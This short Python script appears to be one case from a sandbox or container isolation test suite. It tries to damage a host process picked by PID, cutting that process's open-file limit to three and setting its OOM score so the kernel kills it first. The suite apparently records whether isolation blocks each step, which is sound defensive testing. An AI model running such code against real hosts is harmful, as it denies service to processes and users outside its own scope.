# Lowers the limits of a process of the host, and makes it the first to be killed.
# severity: medium
# escape: victim
import resource

from raw import A, refusable, tried

with refusable("limits"):
    resource.prlimit(int(A.victim), resource.RLIMIT_NOFILE, (3, 3))
with refusable("order"), open(f"/proc/{A.victim}/oom_score_adj", "w") as file:
    file.write("1000")
tried()
